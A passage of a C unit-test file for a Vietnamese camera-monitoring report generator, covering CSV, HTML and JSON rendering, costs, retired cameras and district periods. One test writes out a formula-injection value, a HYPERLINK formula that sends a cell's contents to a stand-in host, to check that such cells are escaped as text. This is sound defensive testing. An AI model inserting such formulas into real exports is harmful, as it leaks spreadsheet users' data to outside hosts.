    for (size_t i = 0; i < 5; i++)
        json_decref(docs[i]);
    json_decref(a);
}

/* ---- rendering ---- */

static char *render(const json_t *doc, enum report_format fmt, enum report_lang lang)
{
    char *buf = NULL;
    size_t len = 0;
    FILE *f = open_memstream(&buf, &len);
    struct cw_err err = {0};

    assert_non_null(f);
    if (report_render(doc, fmt, lang, f, &err) != 0)
        fail_msg("render: %s", err.msg);
    fclose(f);
    return buf;
}

static void test_csv_and_html_carry_the_figures_in_vietnamese(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL;
    char *csv, *html, *en;

    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    csv = render(doc, REPORT_CSV, REPORT_VI);
    assert_int_equal(strncmp(csv, "\xEF\xBB\xBF\"STT\",\"Mã camera\"",
                             strlen("\xEF\xBB\xBF\"STT\",\"Mã camera\"")),
                     0);
    /* CAH-001's row: its downtime 17 h with a Vietnamese decimal mark, its cost whole */
    assert_non_null(strstr(csv, "\"1\",\"CAH-001\",\"Ngã ba QL80\""));
    assert_non_null(strstr(csv, "\"17,00\""));
    assert_non_null(strstr(csv, "\"650000\""));
    assert_null(strstr(csv, "Tổng cộng")); /* the CSV is data: no total row */
    html = render(doc, REPORT_HTML, REPORT_VI);
    assert_non_null(strstr(html, "<html lang=\"vi\">"));
    assert_non_null(strstr(html, "PHỤ LỤC"));
    assert_non_null(strstr(html, "DANH MỤC CAMERA AN NINH CẦN BẢO TRÌ"));
    assert_non_null(strstr(html, "Kỳ báo cáo: từ ngày 01/12/2026 đến hết ngày 01/12/2026"));
    assert_non_null(strstr(html, "5.950.000"));
    assert_non_null(strstr(html, "<svg"));
    assert_null(strstr(html, "src=\"http"));
    assert_null(strstr(html, "href="));
    en = render(doc, REPORT_HTML, REPORT_EN);
    assert_non_null(strstr(en, "5,950,000"));
    assert_non_null(strstr(en, "APPENDIX"));
    free(csv);
    free(html);
    free(en);
    json_decref(doc);
}

/* Names are what users typed (cameras.csv, tickets) or what a camera answered: a CSV cell
 * opening with = + - @ (or a tab, a CR) is a formula to Excel and LibreOffice, which run it
 * (HYPERLINK sends the sheet's cells away). Such a cell is written with a leading apostrophe,
 * shown as text; numbers and other texts are left as they are. */
static void test_csv_cells_that_would_be_formulas_are_text(void **state)
{
    struct fixture *fx = *state;
    static const char *const names[] = {"=HYPERLINK(\"http://x.example/?\"&C3,\"Ngã ba\")",
                                        "+84 cổng chợ", "-1+1", "@SUM(A1:A9)", "\tTab"};
    static const char *const want[] = {
        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&C3,\"\"Ngã ba\"\")\"", "\"'+84 cổng chợ\"",
        "\"'-1+1\"", "\"'@SUM(A1:A9)\"", "\"'\tTab\""};
    struct cw_err err = {0};
    json_t *doc = NULL, *cam;
    char *csv;
    size_t i;

    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    assert_true(json_array_size(json_object_get(doc, "cameras")) >= 4);
    json_array_foreach(json_object_get(doc, "cameras"), i, cam)
    {
        if (i < 4)
            json_object_set_new(cam, "name", json_string(names[i]));
    }
    json_object_set_new(json_array_get(json_object_get(doc, "cameras"), 0), "commune",
                        json_string(names[4]));
    csv = render(doc, REPORT_CSV, REPORT_VI);
    for (i = 0; i < 5; i++)
        if (strstr(csv, want[i]) == NULL)
            fail_msg("no %s in\n%s", want[i], csv);
    assert_null(strstr(csv, "\"=HYPERLINK"));
    assert_non_null(strstr(csv, "\"100,00\""));                 /* numbers stay numbers */
    assert_non_null(strstr(csv, "\"Công an huyện Lai Vung\"")); /* other texts as they are */
    json_decref(doc);
    doc = NULL;
    /* a lone "-" is no formula: a cell of it (a commune typed so) stays as the other formats
     * say (a retired camera's state cell read "-" once; it now says so in words) */
    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    json_object_set_new(json_array_get(json_object_get(doc, "cameras"), 0), "commune",
                        json_string("-"));
    free(csv);
    csv = render(doc, REPORT_CSV, REPORT_VI);
    assert_non_null(strstr(csv, ",\"-\","));
    assert_null(strstr(csv, "\"'-\""));
    free(csv);
    json_decref(doc);
}

/* Sa Đéc's backlog (b, of two_districts) made for 2026-11-24 .. 2026-11-26 12:30, not the day
 * Lai Vung's covers. */
static void sent_another_period(json_t *b)
{
    json_object_set_new(b, "from", json_string("2026-11-24T00:00:00+00:00"));
    json_object_set_new(b, "from_ms", json_integer(T0 - 7 * 24 * H));
    json_object_set_new(b, "to", json_string("2026-11-26T12:30:00+00:00"));
    json_object_set_new(b, "to_ms", json_integer(T0 - 5 * 24 * H + 12 * H + 30 * MIN));
}

/* Districts that sent different periods (one a week of last month, one this month to now)
 * are summed, but the province's page and workbook say so and give each district's period:
 * the heading's period, from the first start to the last end, covers none of them alone. */
static void test_province_names_each_districts_period_when_they_differ(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *a = NULL, *b, *doc = NULL;
    struct doc_district in[2];
    char *html, *en;

    two_districts(fx, &a, &b, in);
    /* one period: no note */
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
    html = render(doc, REPORT_HTML, REPORT_VI);
    assert_null(strstr(html, "không trùng nhau"));
    free(html);
    json_decref(doc);
    sent_another_period(b);
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
    html = render(doc, REPORT_HTML, REPORT_VI);
    if (strstr(html, "Kỳ báo cáo của các địa phương không trùng nhau: Lai Vung từ ngày "
                     "01/12/2026 đến hết ngày 01/12/2026; Sa Đéc từ ngày 24/11/2026 đến "
                     "12:30 ngày 26/11/2026.") == NULL)
        fail_msg("no periods in\n%s", html);
    en = render(doc, REPORT_HTML, REPORT_EN);
    if (strstr(en, "The districts' periods differ: Lai Vung from 2026-12-01 to the end of "
                   "2026-12-01; Sa Đéc from 2026-11-24 to 2026-11-26 12:30.") == NULL)
        fail_msg("no periods in\n%s", en);
    free(html);
    free(en);
    json_decref(doc);
    json_decref(a);
    json_decref(b);
}

/* The number of fields of each line of csv (libcsv's quoting: every field quoted, none holding
 * a quote here) into n[0..max); returns the number of lines. */
static size_t csv_widths(const char *csv, size_t *n, size_t max)
{
    size_t lines = 0;

    for (const char *p = csv; *p != '\0' && lines < max; lines++) {
        const char *end = strstr(p, "\r\n");
        n[lines] = 1;
        for (const char *q = p; q < end; q++)
            n[lines] += q[0] == '"' && q[1] == ',' && q[2] == '"';
        p = end + 2;
    }
    return lines;
}

/* The province's CSV is its detail table alone (a row per district and owner), without the
 * note the page and the workbook carry when the districts' periods differ: each row gives its
 * district's own period in two columns (From, To), as the note says them, so the file stays a
 * table a spreadsheet or a script reads, every row as wide as the heads, and a row read alone
 * says what its figures cover. A period cell is text like the others: one that would open as a
 * formula is written after an apostrophe. */
static void test_province_csv_rows_carry_each_districts_period(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *a = NULL, *b, *doc = NULL;
    struct doc_district in[2];
    size_t widths[8] = {0};
    char *csv, *en;

    two_districts(fx, &a, &b, in);
    sent_another_period(b);
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
    csv = render(doc, REPORT_CSV, REPORT_VI);
    if (strncmp(csv, "\xEF\xBB\xBF\"STT\",\"Địa phương\",\"Từ\",\"Đến\",",
                strlen("\xEF\xBB\xBF\"STT\",\"Địa phương\",\"Từ\",\"Đến\",")) != 0)
        fail_msg("no period columns in\n%s", csv);
    if (strstr(csv, "\"1\",\"Lai Vung\",\"ngày 01/12/2026\",\"hết ngày 01/12/2026\",") == NULL ||
        strstr(csv, "\"4\",\"Sa Đéc\",\"ngày 24/11/2026\",\"12:30 ngày 26/11/2026\",") == NULL)
        fail_msg("no district's period in\n%s", csv);
    assert_null(strstr(csv, "không trùng nhau"));    /* no note: a table */
    assert_int_equal(csv_widths(csv, widths, 8), 7); /* the heads, 3 owners in each district */
    for (size_t i = 0; i < 7; i++)
        assert_int_equal(widths[i], 12);
    en = render(doc, REPORT_CSV, REPORT_EN);
    if (strstr(en, "\"4\",\"Sa Đéc\",\"2026-11-24\",\"2026-11-26 12:30\",") == NULL ||
        strstr(en, "\"1\",\"Lai Vung\",\"2026-12-01\",\"the end of 2026-12-01\",") == NULL)
        fail_msg("no district's period in\n%s", en);
    free(csv);
    free(en);
    json_decref(doc);
    /* a period that would write a cell opening with '-' (a year that is none) is text */
    json_object_set_new(b, "from", json_string("-202-11-24T10:00:00+00:00"));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
    en = render(doc, REPORT_CSV, REPORT_EN);
    if (strstr(en, "\"Sa Đéc\",\"'-202-11-24 10:00\",") == NULL)
        fail_msg("a formula cell in\n%s", en);
    free(en);
    json_decref(doc);
    json_decref(a);
    json_decref(b);
}

/* The line of the CSV (up to its CRLF) whose first fields are rank and id; NULL if none.
 * Points into csv. */
static const char *csv_row(const char *csv, const char *rank_id)
{
    const char *at = strstr(csv, rank_id);

    return at != NULL && at > csv && at[-1] == '\n' ? at : NULL;
}

/* A camera none of whose work has a price in [costs] has no cost, not 0 ("free"): null in
 * the JSON, "no price" in its cost cell in every format, and its owner's and the district's
 * rows (all unpriced) too; a camera with some work priced (a ticket's cost) keeps the sum of
 * those. A price of 0 set in [costs] stays 0. */
static void test_backlog_unpriced_cost_is_no_price_not_zero(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *a, *b;
    char *csv, *html, *en;
    const char *row;

    for (int k = 0; k < CFG_ACTION_COUNT; k++)
        fx->cfg.costs[k].set = 0;
    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    a = json_array_get(json_object_get(doc, "items"), 0);
    assert_string_equal(json_string_value(json_object_get(a, "id")), "CAH-001");
    assert_true(json_is_null(json_object_get(a, "cost_vnd")));
    assert_int_equal(num(a, "unpriced"), json_array_size(json_object_get(a, "actions")));
    b = json_array_get(json_object_get(doc, "items"), 3); /* its ticket carries a cost */
    assert_string_equal(json_string_value(json_object_get(b, "id")), "CAH-002");
    assert_int_equal(num(b, "cost_vnd"), 4000000);
    assert_true(num(b, "unpriced") > 0);

    csv = render(doc, REPORT_CSV, REPORT_VI);
    assert_non_null(row = csv_row(csv, "\"1\",\"CAH-001\""));
    /* the cost field (the 13th), whole: not "0" */
    {
        const char *f = row;
        for (int k = 0; k < 12 && f != NULL; k++) {
            f = strstr(f + 1, "\",\"");
            if (f != NULL)
                f += 2;
        }
        assert_non_null(f);
        assert_int_equal(strncmp(f, "\"chưa có đơn giá\",", strlen("\"chưa có đơn giá\",")), 0);
    }
    html = render(doc, REPORT_HTML, REPORT_VI);
    assert_non_null(strstr(html, "<td class=\"n\">chưa có đơn giá</td>"));
    en = render(doc, REPORT_HTML, REPORT_EN);
    assert_non_null(strstr(en, "<td class=\"n\">no price</td>"));
    assert_non_null(strstr(en, "<td class=\"n\">4,000,000</td>"));
    free(csv);
    free(html);
    free(en);
    json_decref(doc);
}

/* The cost chart of table model m, failing the test when it has none. */
static const struct rchart *cost_chart(const struct rmodel *m)
{
    for (size_t i = 0; i < m->ncharts; i++)
        if (m->charts[i].title == RL_CHART_COSTS)
            return &m->charts[i];
    fail_msg("no cost chart");
    return NULL;
}

/* The bar labelled label in ch, its index; -1 when there is none. */
static long chart_bar(const struct rchart *ch, const char *label)
{
    for (size_t i = 0; i < ch->n; i++)
        if (strcmp(ch->labels[i], label) == 0)
            return (long)i;
    return -1;
}

/* A 0 bar in the cost chart told the province that work with no price in [costs] is free. An
 * action none of whose work has a price is left out of the chart and named in the chart's
 * note; one priced in part keeps the bar of what is priced, its label saying how many have no
 * price; a price of 0 set in [costs] is a 0 bar. The same in the province's chart. */
static void test_cost_chart_leaves_out_unpriced_work_and_says_so(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *prov = NULL;
    struct rmodel m;
    const struct rchart *ch;
    struct doc_district in[1];
    char *html;
    long i;

    /* update_credentials (TD-01) has no price; replace_camera only CAH-002's ticket's own
     * cost, not CHO-01's */
    fx->cfg.costs[CFG_ACTION_REPLACE_CAMERA].set = 0;
    ticket(fx, "CHO-01", "replace_camera", 0, 0);
    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    assert_int_equal(
        num(by(json_object_get(doc, "by_action"), "action", "update_credentials"), "unpriced"),
        num(by(json_object_get(doc, "by_action"), "action", "update_credentials"), "count"));
    assert_int_equal(rmodel_build(doc, REPORT_EN, &m, &err), 0);
    ch = cost_chart(&m);
    assert_int_equal(chart_bar(ch, "Update the access account"), -1);
    for (size_t k = 0; k < ch->n; k++)
        assert_null(strstr(ch->labels[k], "Update the access account"));
    assert_non_null(ch->note);
    assert_string_equal(ch->note, "Not in the chart, having no price: Update the access account "
                                  "(1).");
    /* a price of 0 in [costs] is a price: its bar stays, at 0 */
    assert_true((i = chart_bar(ch, "Reconfigure the video settings")) >= 0);
    assert_true(ch->values[i] == 0);
    /* replace_camera: the ticket's 4.000.000 and one more with no price */
    assert_true((i = chart_bar(ch, "Replace the camera (1 no price)")) >= 0);
    assert_true(ch->values[i] == 4000000);
    rmodel_free(&m);
    html = render(doc, REPORT_HTML, REPORT_VI);
    assert_non_null(strstr(html, "Không đưa vào biểu đồ do chưa có đơn giá: Cập nhật tài khoản "
                                 "truy cập (1)."));
    free(html);

    in[0] = (struct doc_district){"a.json", doc};
    assert_int_equal(doc_province(&fx->c, in, 1, T1, &prov, &err), 0);
    assert_int_equal(rmodel_build(prov, REPORT_EN, &m, &err), 0);
    ch = cost_chart(&m);
    assert_int_equal(chart_bar(ch, "Update the access account"), -1);
    assert_non_null(ch->note);
    rmodel_free(&m);
    json_decref(prov);
    json_decref(doc);
}

/* The priority cell is one line, its reasons in brackets: a line break in a CSV field splits
 * the row for a reader that takes each line for a row. */
static void test_backlog_priority_cell_is_one_line(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL;
    char *csv;

    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    csv = render(doc, REPORT_CSV, REPORT_EN);
    assert_null(strstr(csv, ",\"1\n"));
    assert_non_null(strstr(csv, ",\"1 (national road)\","));
    assert_non_null(strstr(csv, ",\"2\","));
    free(csv);
    json_decref(doc);
}

static void test_firmware_finding_counts_one_camera_in_the_singular(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *two;
    char *html, *text;

    /* CHO-01 alone runs V5.5.1 */
    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    html = render(doc, REPORT_HTML, REPORT_EN);
    assert_non_null(strstr(html, "(V5.5.1 runs on 1 camera of this model)"));
    assert_null(strstr(html, "1 cameras"));
    free(html);
    two = json_pack("{s:s, s:s, s:s, s:i}", "kind", "firmware", "firmware", "V5.4.0", "newest",
                    "V5.5.1", "cameras_on_newest", 2);
    text = rfinding_text(REPORT_EN, two);
    assert_string_equal(text, "Outdated firmware V5.4.0 (V5.5.1 runs on 2 cameras of this model)");
    free(text);
    text = rfinding_text(REPORT_VI, two);
    assert_string_equal(text, "Phần mềm cũ: V5.4.0 (bản V5.5.1 đang chạy trên 2 camera cùng loại)");
    free(text);
    json_decref(two);
    json_decref(doc);
}

static void test_json_says_the_language_it_was_made_in(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL;
    char *en, *vi;

    /* the configuration says vi; --lang en makes an English report, and its JSON says so */
    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    en = render(doc, REPORT_JSON, REPORT_EN);
    vi = render(doc, REPORT_JSON, REPORT_VI);
    assert_non_null(strstr(en, "\"language\": \"en\""));
    assert_null(strstr(en, "\"language\": \"vi\""));
    assert_non_null(strstr(vi, "\"language\": \"vi\""));
    /* the document itself is left as built */
    assert_string_equal(json_string_value(json_object_get(doc, "language")), "vi");
    free(en);
    free(vi);
    json_decref(doc);
}

static void test_files_are_written_whole_with_mode_0640(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *bad = json_pack("{s:s, s:i}", "kind", "nothing", "version", 1);
    char path[160], *back;
    struct stat st;
    size_t len;

    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    snprintf(path, sizeof(path), "%s/r.xlsx", fx->dir);
    assert_int_equal(report_write(doc, REPORT_XLSX, REPORT_VI, path, &err), 0);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_mode & 0777, 0640);
    back = cwtest_read_file(path, &len);
    assert_memory_equal(back, "PK\x03\x04", 4); /* a zip: the workbook */
    free(back);
    /* a failure leaves the old file as it was, and no temporary beside it */
    assert_int_equal(report_write(bad, REPORT_HTML, REPORT_VI, path, &err), -1);
    back = cwtest_read_file(path, &len);
    assert_memory_equal(back, "PK\x03\x04", 4);
    free(back);
    snprintf(path, sizeof(path), "%s/r.html", fx->dir);
    assert_int_equal(report_write(doc, REPORT_HTML, REPORT_EN, path, &err), 0);
    snprintf(path, sizeof(path), "%s/nofolder/r.html", fx->dir);
    assert_int_equal(report_write(doc, REPORT_HTML, REPORT_EN, path, &err), -1);
    assert_string_equal(err.file, path);
    json_decref(bad);
    json_decref(doc);
}

/* ---- a camera retired in the range ---- */

/* CAH-001 (down since T0+10h) and CHO-01 (degraded since T0+20h) taken out of the inventory
 * at T0+22h: the inventory synced without them, and the reports made with it, as the CLI
 * makes them after that sync. */
static void retire_two(struct fixture *fx)
{
    struct cw_err err = {0};

    fx->cams[0] = fx->cams[1]; /* CAH-002 */
    fx->cams[1] = fx->cams[3]; /* TD-01 */
    fx->cfg.n_cameras = 2;
    if (store_sync_cameras(fx->s, &fx->cfg, T0 + 22 * H, &err) != 0)
        fail_msg("sync: %s", err.msg);
}

/* The backlog's row of an owner puts its cameras beside the availability and outages of the
 * summary: both count the same cameras, every one monitored in the range, a retired one too
 * (its outages were real); what needs work or is down now counts only those still in the
 * inventory, and a retired camera is never an item. */
static void test_backlog_owner_rows_count_the_cameras_their_availability_covers(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *o, *av, *cah, *bqlc, *t, *it;
    size_t i;
    char *html;

    retire_two(fx);
    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    av = json_object_get(doc, "availability");
    assert_int_equal(json_array_size(json_object_get(doc, "owners")),
                     json_array_size(json_object_get(av, "owners")));
    json_array_foreach(json_object_get(av, "owners"), i, o)
    {
        const char *code = json_string_value(json_object_get(o, "owner"));
        assert_int_equal(num(by(json_object_get(doc, "owners"), "owner", code), "cameras"),
                         num(o, "cameras"));
    }
    cah = by(json_object_get(doc, "owners"), "owner", "CAH");
    assert_int_equal(num(cah, "cameras"), 2);
    assert_int_equal(num(cah, "retired"), 1);
    assert_int_equal(num(cah, "needing_work"), 1); /* CAH-002 alone */
    assert_int_equal(num(cah, "down_now"), 0);     /* CAH-001 was down when retired */
    assert_int_equal(num(by(json_object_get(av, "owners"), "owner", "CAH"), "outages"), 2);
    bqlc = by(json_object_get(doc, "owners"), "owner", "BQLC");
    assert_int_equal(num(bqlc, "cameras"), 1);
    assert_int_equal(num(bqlc, "retired"), 1);
    assert_int_equal(num(bqlc, "needing_work"), 0);
    t = json_object_get(doc, "total");
    assert_int_equal(num(t, "cameras"), num(json_object_get(av, "total"), "cameras"));
    assert_int_equal(num(t, "cameras"), 4);
    assert_int_equal(num(t, "retired"), 2);
    assert_int_equal(num(t, "needing_work"), 2);
    json_array_foreach(json_object_get(doc, "items"), i, it)
    {
        const char *id = json_string_value(json_object_get(it, "id"));
        assert_true(strcmp(id, "CAH-001") != 0 && strcmp(id, "CHO-01") != 0);
    }
    /* the page says which cameras the rows count */
    html = render(doc, REPORT_HTML, REPORT_VI);
    assert_non_null(strstr(html, "Số camera: tất cả camera được giám sát trong kỳ, kể cả camera "
                                 "đã gỡ khỏi danh mục quản lý trong kỳ"));
    free(html);
    json_decref(doc);
}

/* A camera retired in the range is in the availability report for the time it was monitored,
 * its availability over that time (not over the range), and its state cell says it was
 * retired, in words, with a note saying what that means: not a broken camera at 0 %. */
static void test_availability_shows_a_retired_camera_as_retired_over_its_time(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *a, *c;
    char *csv, *html, *en;

    retire_two(fx);
    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    a = by(json_object_get(doc, "cameras"), "id", "CAH-001");
    assert_true(json_is_true(json_object_get(a, "retired")));
    assert_int_equal(num(a, "existed_ms"), 22 * H);
    assert_int_equal(ms_of(a, "up"), 7 * H);
    assert_int_equal(ms_of(a, "down"), 15 * H); /* T0+2h..5h, T0+10h..22h */
    assert_pct(a, 100.0 * 7 / 22);
    c = by(json_object_get(doc, "cameras"), "id", "CHO-01");
    assert_int_equal(num(c, "monitored_ms"), 22 * H);
    assert_pct(c, 100.0); /* up, then degraded: answered all the time it was watched */
    assert_false(json_is_true(
        json_object_get(by(json_object_get(doc, "cameras"), "id", "CAH-002"), "retired")));
    csv = render(doc, REPORT_CSV, REPORT_VI);
    assert_non_null(strstr(csv, "\"1\",\"CAH-001\""));
    assert_non_null(strstr(csv, "\"31,82\""));        /* 7 of 22 h */
    assert_non_null(strstr(csv, "\"Đã gỡ bỏ\"\r\n")); /* CAH-001's and CHO-01's state */
    assert_null(strstr(csv, "\"-\"\r\n"));
    html = render(doc, REPORT_HTML, REPORT_VI);
    assert_non_null(strstr(html, ">Đã gỡ bỏ<"));
    assert_non_null(strstr(html, "Đã gỡ bỏ: camera đã được gỡ khỏi danh mục quản lý trong kỳ"));
    en = render(doc, REPORT_CSV, REPORT_EN);
    assert_non_null(strstr(en, "\"retired\"\r\n"));
    free(csv);
    free(html);
    free(en);
    json_decref(doc);
}

/* One district sent twice is refused whether its name was typed the same, decomposed (NFD:
 * "Sa Đéc" saved so by an editor) or with white space around it: each would double the
 * province's figures. */
static void test_province_refuses_a_district_named_twice_in_another_form(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *a = NULL, *b, *doc = NULL;
    struct doc_district in[2];
    static const char *const twins[] = {"Sa Đéc",
                                        "Sa \xC4\x90"
                                        "e\xCC\x81"
                                        "c",
                                        " Sa Đéc\t",
                                        "\n Sa \xC4\x90"
                                        "e\xCC\x81"
                                        "c  "};

    two_districts(fx, &a, &b, in);
    json_object_set_new(a, "site", json_string("Sa Đéc"));
    for (size_t i = 0; i < sizeof(twins) / sizeof(twins[0]); i++) {
        json_object_set_new(b, "site", json_string(twins[i]));
        if (doc_province(&fx->c, in, 2, T1, &doc, &err) != DOC_BAD_INPUT)
            fail_msg("'%s' taken as another district", twins[i]);
        assert_string_equal(err.file, "b.json");
        assert_string_equal(err.field, "site");
        assert_non_null(strstr(err.msg, "'Sa Đéc' is given twice (also in a.json)"));
        assert_null(doc);
    }
    /* a name of white space only is no name */
    json_object_set_new(b, "site", json_string(" \t "));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.field, "site");
    /* another district spaced so is summed under its name as typed without the spaces */
    json_object_set_new(b, "site", json_string(" Lai Vung "));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
    assert_non_null(by(json_object_get(doc, "districts"), "site", "Lai Vung"));
    json_decref(doc);
    json_decref(a);
    json_decref(b);
}

int main(void)
{
#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
    const struct CMUnitTest tests[] = {
        T(test_availability_of_each_camera_from_its_intervals),
        T(test_availability_sums_owners_communes_district_and_weeks),
        T(test_a_range_past_the_weeks_limit_is_bad_input_not_an_error),
        cmocka_unit_test(test_availability_arithmetic_clips_spells_to_the_range),
        T(test_backlog_finds_what_each_camera_needs_and_prices_it),
        T(test_backlog_totals_per_owner_action_and_district),
        T(test_tickets_open_close_once_and_refuse_unknown_actions),
        T(test_a_closed_ticket_in_the_list_says_when_by_whom_and_what_was_done),
        T(test_ticket_texts_with_control_characters_are_refused),
        T(test_province_sums_districts_and_names_a_bad_field),
        T(test_province_names_each_districts_period_when_they_differ),
        T(test_province_csv_rows_carry_each_districts_period),
        T(test_province_refuses_times_whose_sum_would_overflow),
        T(test_province_refuses_a_district_whose_parts_do_not_add_up),
        T(test_csv_and_html_carry_the_figures_in_vietnamese),
        T(test_csv_cells_that_would_be_formulas_are_text),
        T(test_backlog_unpriced_cost_is_no_price_not_zero),
        T(test_cost_chart_leaves_out_unpriced_work_and_says_so),
        T(test_backlog_priority_cell_is_one_line),
        T(test_firmware_finding_counts_one_camera_in_the_singular),
        T(test_json_says_the_language_it_was_made_in),
        T(test_files_are_written_whole_with_mode_0640),
        T(test_backlog_owner_rows_count_the_cameras_their_availability_covers),
        T(test_availability_shows_a_retired_camera_as_retired_over_its_time),
        T(test_province_refuses_a_district_named_twice_in_another_form),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
